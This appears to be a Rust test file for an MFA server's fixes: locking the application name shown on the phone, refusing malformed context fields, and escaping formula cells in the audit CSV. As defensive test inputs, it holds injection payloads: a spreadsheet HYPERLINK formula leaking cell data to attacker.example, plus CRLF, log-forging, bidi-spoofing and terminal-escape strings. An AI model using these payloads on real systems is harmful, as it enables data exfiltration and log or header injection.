//! Issue 13, item 4: the relying party cannot choose the application name the phone shows,
//! every context field is checked, and the audit CSV never hands a spreadsheet a formula.
//! On SQLite and PostgreSQL.

use serde_json::{json, Value};
use twofold_testkit::{engines, Engine, InProcessServer, TestDevice};

async fn setup(engine: Engine) -> (InProcessServer, String, String, TestDevice) {
    let s = super::alice_device::start(engine, |_| {}).await;
    (s.server, s.url, s.app, s.device)
}

async fn audit(server: &InProcessServer, query: &str) -> Vec<Value> {
    let body = server
        .admin_call("GET", &format!("/v1/admin/audit?{query}"), None)
        .await
        .unwrap();
    body.as_array().unwrap().clone()
}

#[tokio::test]
async fn item4_relying_party_cannot_choose_the_application_name() {
    for engine in engines().unwrap() {
        let (server, url, app, device) = setup(engine).await;
        let (mut channel, _ready) = device.connect(&url).await.unwrap();
        let body = json!({"username": "alice", "factor": "push", "async": true,
            "context": {"application": "Payroll: approve transfer", "client_ip": "198.51.100.7"}});
        let (status, started) = server
            .call("POST", "/v1/auth", Some(&app), Some(body))
            .await
            .unwrap();
        assert_eq!(status, 200, "{engine}: {started}");
        let (challenge, signature) = channel.next_challenge().await.unwrap();
        assert!(device.verify_challenge(&challenge, &signature).unwrap());
        // Before the fix the phone showed (and the server signed) the relying party's text.
        assert_eq!(challenge.application, "VPN", "{engine}");
        let txid = started["txid"].as_str().unwrap();
        server
            .call("DELETE", &format!("/v1/auth/{txid}"), Some(&app), None)
            .await
            .unwrap();
        // Audit and reports name the registered application only.
        for record in audit(&server, "event=authentication").await {
            assert_eq!(record["application"], "VPN", "{engine}: {record}");
        }
        let (status, code_answer) = server
            .call(
                "POST",
                "/v1/auth",
                Some(&app),
                Some(
                    json!({"username": "alice", "factor": "passcode", "passcode": "000000",
                    "context": {"application": "Something else"}}),
                ),
            )
            .await
            .unwrap();
        assert_eq!(status, 200, "{code_answer}");
        let records = audit(&server, "event=authentication&limit=1").await;
        assert_eq!(records[0]["application"], "VPN", "{engine}");
        let usage = server
            .admin_call("GET", "/v1/admin/reports/usage", None)
            .await
            .unwrap();
        let keys: Vec<&str> = usage["by_application"]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["key"].as_str().unwrap())
            .collect();
        assert_eq!(keys, ["VPN"], "{engine}: {usage}");
    }
}

#[tokio::test]
async fn item4_context_fields_with_control_characters_or_too_long_are_refused() {
    for engine in engines().unwrap() {
        let (server, _url, app, _device) = setup(engine).await;
        let cases = [
            (
                "client_ip",
                "198.51.100.7\n2026-12-01 INFO admin logged in".to_owned(),
            ),
            ("location", "Lisbon\r\nSet-Cookie: x".to_owned()),
            ("location", "Lisbon \u{202E}NP ,nodnoL".to_owned()),
            ("user_agent", "curl/8\u{1b}[2J".to_owned()),
            ("user_agent", "a".repeat(513)),
            ("location", "x".repeat(129)),
            ("application", "VPN\u{0}".to_owned()),
            ("client_ip", "1".repeat(65)),
        ];
        for (field, value) in &cases {
            let body = json!({"username": "alice", "factor": "push", "async": true,
                "context": {*field: value}});
            let (status, answer) = server
                .call("POST", "/v1/auth", Some(&app), Some(body))
                .await
                .unwrap();
            assert_eq!(status, 400, "{engine}: {field}: {answer}");
            assert_eq!(
                answer["error"]["code"],
                format!("context.invalid_{field}"),
                "{engine}: {answer}"
            );
            let message = answer["error"]["message"].as_str().unwrap();
            assert!(
                message.starts_with(&format!("context.{field}:")),
                "{message}"
            );
        }
        // Every refusal is audited (without the refused text); nothing else happened: no
        // push was started, no attempt counted against the user.
        let refused = audit(&server, "event=request").await;
        assert_eq!(refused.len(), cases.len(), "{engine}: {refused:?}");
        for record in &refused {
            assert_eq!(record["reason"], "invalid_context");
            assert_eq!(record["username"], "alice");
            assert_eq!(record["application"], "VPN");
            assert!(record["client_ip"].is_null());
        }
        assert!(audit(&server, "event=authentication").await.is_empty());
        // Limits are characters, not bytes: the longest allowed value passes.
        let body = json!({"username": "alice", "factor": "push", "async": true,
            "context": {"location": "é".repeat(128), "user_agent": "Mozilla/5.0 (X11)"}});
        let (status, answer) = server
            .call("POST", "/v1/auth", Some(&app), Some(body))
            .await
            .unwrap();
        assert_eq!(status, 200, "{engine}: {answer}");
    }
}

#[tokio::test]
async fn item4_audit_csv_neutralises_formula_cells() {
    for engine in engines().unwrap() {
        let (server, _url, app, _device) = setup(engine).await;
        let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"x\")";
        for client_ip in [formula, "+1+1", "-2+3", "@SUM(1)", "\tx"] {
            let body = json!({"username": "alice", "factor": "passcode", "passcode": "000000",
                "context": {"client_ip": client_ip}});
            // The tab is a control character: refused (and audited) before it gets anywhere.
            let (status, _) = server
                .call("POST", "/v1/auth", Some(&app), Some(body))
                .await
                .unwrap();
            assert_eq!(status == 400, client_ip.starts_with('\t'), "{client_ip:?}");
        }
        let (status, csv) = server
            .raw(
                axum::http::Request::builder()
                    .uri("/v1/admin/audit?format=csv&event=authentication")
                    .header("authorization", server.admin())
                    .body(axum::body::Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(status, 200);
        let text = csv.as_str().unwrap_or_default().to_owned();
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let column = reader
            .headers()
            .unwrap()
            .iter()
            .position(|h| h == "client_ip")
            .unwrap();
        let cells: Vec<String> = reader
            .records()
            .map(|r| r.unwrap()[column].to_owned())
            .collect();
        assert_eq!(cells.len(), 4, "{engine}: {text}");
        for cell in &cells {
            assert!(cell.starts_with('\''), "{engine}: formula cell {cell:?}");
        }
        assert!(cells.contains(&format!("'{formula}")));
        // JSON keeps the value as it was.
        let json_records = audit(&server, "event=authentication").await;
        assert!(json_records.iter().any(|r| r["client_ip"] == formula));
    }
}
